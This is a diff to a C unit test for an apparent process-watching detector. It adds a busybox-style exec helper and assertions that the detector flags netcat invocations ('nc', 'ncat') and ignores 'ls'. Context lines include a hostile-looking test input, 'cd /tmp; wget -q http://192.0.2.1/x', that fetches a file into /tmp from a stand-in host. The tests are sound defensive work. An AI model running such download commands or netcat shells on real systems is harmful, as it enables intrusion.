@@ -10,6 +10,7 @@
 #include "proc/introspect/watch.h"
 
 #include <errno.h>
+#include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <time.h>
@@ -55,6 +56,14 @@ static void exec(int32_t ret, const char *path, unsigned flags)
 	memcpy(p, &ret, 4);
 	strcpy(p + 8, path);
 	record(INTRO_EXEC, flags, p, 8 + strlen(path) + 1 + 2);
+}
+
+/* As busybox's shell does. */
+static void applet(const char *name)
+{
+	char p[200] = { 0 };
+	int n = snprintf(p + 8, sizeof(p) - 8, "/proc/self/exe%c/root%c%s%c-x", 0, 0, name, 0);
+	record(INTRO_EXEC, 0, p, 8 + (size_t)n + 1);
 }
 
 static void command(const char *line)
@@ -112,6 +121,12 @@ static void matching(void **state)
 	exec(0, "/tmp/.x/ncx", 0);
 	assert_int_equal(told(), 3);
 	exec(0, "/usr/bin/x", 0);
+	assert_int_equal(told(), 0);
+	applet("nc");
+	assert_int_equal(told(), 1);
+	applet("-/bin/ncat");
+	assert_int_equal(told(), 1);
+	applet("ls");
 	assert_int_equal(told(), 0);
 	command("cd /tmp; wget -q http://192.0.2.1/x");
 	assert_int_equal(told(), 4);
